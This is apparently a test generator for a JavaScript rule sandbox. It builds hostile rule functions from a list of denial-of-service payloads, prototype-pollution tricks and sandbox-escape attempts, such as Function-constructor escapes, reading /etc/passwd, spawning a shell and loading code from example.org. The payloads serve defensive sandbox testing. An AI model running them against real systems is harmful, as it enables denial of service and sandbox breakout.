// Rules that mean harm, made up from attacks, disguises and places: endless loops in the language and in
// built-in functions, deep recursion, huge values, prototype tricks, and ways out of the sandbox.

import { stream } from '../../../src/world/random'

/** Expressions or statements; `N` becomes a large number, `D` a depth. */
const ATTACKS = [
  'while (true) {}',
  'for (;;) { try { while (1) {} } catch (e) {} }',
  'do { var q = 1 } while (q)',
  'Array(N).indexOf(1)',
  '[].includes.call({ length: 2 ** 52 }, 1)',
  '[].concat(Array(N))',
  'Array(N).reverse()',
  'Array(N).every((x) => x)',
  'Array(N).sort()',
  'Array(N).join("ab")',
  'Array(N).fill(0)',
  'new Set(Array(N).values())',
  'JSON.stringify({}, Array(N))',
  'String.raw({ raw: { length: 2 ** 50 } })',
  'Math.max(...Array(N))',
  'let a = []; while (1) a.push({ a: [1, 2, 3] })',
  'let s = "a"; for (;;) s += s',
  '"a".repeat(N)',
  'let s = "a".repeat(900000); s.indexOf("a".repeat(450000) + "b")',
  'let a = []; for (;;) a.push(new ArrayBuffer(1e6))',
  'let x = 3n; for (;;) x = x * x',
  'String(7n ** 100000n)',
  '/(a+)+b/.test("a".repeat(60))',
  'new RegExp("(" + "a|".repeat(D) + "b)*c").test("a".repeat(5000))',
  'function f() { return f() + 1 } f()',
  'function f() { try { f() } finally { f() } } f()',
  'const f = () => [1].map(f); f()',
  'Object.prototype.toJSON = () => null',
  'Array.prototype.toJSON = () => undefined',
  'JSON.parse("[".repeat(D))',
  'eval("(".repeat(D))',
  'eval("!".repeat(D) + "1; for (;;) {}")',
  'let o = {}; let p = o; for (let i = 0; i < D; i++) { p.a = {}; p = p.a } JSON.stringify(o)',
  'let p = {}; for (let i = 0; i < D; i++) p = new Proxy(p, {}); p.x',
  'let g = () => 1; for (let i = 0; i < D; i++) g = g.bind(null); g()',
  'let a = []; for (let i = 0; i < D; i++) a = [a]; a.flat(Infinity); String(a)',
  'function* g() { while (1) yield 1 } [...g()]',
  'async function h() { for (;;) await 1 } h(); throw 1',
  'throw { toString() { while (1); } }',
  'throw { get message() { while (1); }, get stack() { for (;;); } }',
  'throw new Error("x".repeat(1e6))',
  'const e = new Error("a"); e.stack = "rule.js:99999999999 (rule.js:-1:0)"; throw e',
  'Object.defineProperty(Object.prototype, "x", { get() { return this.x } }); ({}).x',
  'Object.prototype.toJSON = () => { for (;;); }; return [1, 1, 1, 1]',
  'Array.prototype[Symbol.iterator] = function* () { for (;;) yield 1 }; [...[1]]',
  'Array.isArray = () => true; Number.isFinite = () => true; JSON.stringify = () => "{}"; return { length: 4 }',
  'Object.setPrototypeOf(ctx, new Proxy({}, { get() { for (;;); } })); ctx.nothing',
  'ctx.memory = { toJSON() { for (;;); } }; return [1, 1, 1, 1]',
  'ctx.memory = "x".repeat(100000); return [1, 1, 1, 1]',
  'return { length: 4, 0: 1, 1: 1, 2: 1, 3: 1 }',
  'return new Proxy([1, 1, 1, 1], { get() { for (;;); } })',
  'return [1, 1, 1, { valueOf() { return 1 } }]',
  'return [NaN, 1, 1, 1]',
  'return [1, Infinity, 1, 1]',
  'return [1, 1, 1]',
  'return Array(N)',
  'return "1111"',
  'return Promise.resolve([1, 1, 1, 1])',
  // Ways out: each must find nothing there.
  'import("https://example.org/x.js").then((m) => m)',
  'fetch("https://example.org")',
  'new XMLHttpRequest()',
  'new WebSocket("wss://example.org")',
  'document.cookie',
  'localStorage.setItem("a", "b")',
  'indexedDB.open("x")',
  'postMessage("x")',
  'importScripts("x.js")',
  'process.exit(1)',
  'require("fs").readFileSync("/etc/passwd")',
  'new Worker("x.js")',
  'navigator.sendBeacon("https://example.org")',
  '[].constructor.constructor("return globalThis")().fetch("https://example.org")',
  'combine.constructor("return process")().exit(1)',
  'ctx.constructor.constructor("return document")().body.remove()',
  '(async () => {}).constructor("return fetch(1)")(); throw globalThis.fetch',
  'new Function("return this")().self.close()',
  'Reflect.construct(Function, ["return window"])().location = "https://example.org"',
  'std.exit(1)',
  'os.exec(["sh"])',
  'WebAssembly.compile(new Uint8Array(8))',
  'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)',
  'setTimeout(() => {}, 0)',
  'throw combine.caller',
]

const DISGUISES: readonly ((attack: string) => string)[] = [
  (a) => a,
  (a) => `try { ${a} } catch (e) { ${a.startsWith('return') ? 'throw e' : a} }`,
  (a) => `eval(${JSON.stringify(a.replace(/\breturn\b/g, 'throw'))})`,
  (a) => `new Function('G', 'ctx', ${JSON.stringify(a)}).call(null, G, ctx)`,
  (a) => `[0].map(() => { ${a} })`,
  (a) => `({ get x() { ${a} } }).x`,
  (a) => `{ ${a} }`,
]

/** Where it happens: while the rule is read, or when it is called. */
const PLACES: readonly ((attack: string) => string)[] = [
  (a) => `function combine(G, ctx) {\n  ${a}\n}`,
  (a) => `const combine = (G, ctx) => {\n  ${a}\n}`,
  (a) => `(function (G, ctx) { ${a} })([], {})\nfunction combine() { return 0 }`,
  (a) => `class R { static combine(G, ctx) { ${a} } }\nvar combine = R.combine`,
]

/** The `index`-th of as many hostile rules as one likes. */
export function hostileRule(index: number): string {
  const random = stream(7, 'hostile rules', index)
  const pick = <T>(list: readonly T[]): T => list[random.integer(list.length)]
  const attack = ATTACKS[index % ATTACKS.length]
  const size = pick(['4294967295', '1e9', '1e7', '2 ** 31'])
  const depth = pick(['900', '5000', '100000'])
  const written = attack.replace(/\bN\b/g, size).replace(/\bD\b/g, depth)
  return pick(PLACES)(pick(DISGUISES)(written))
}
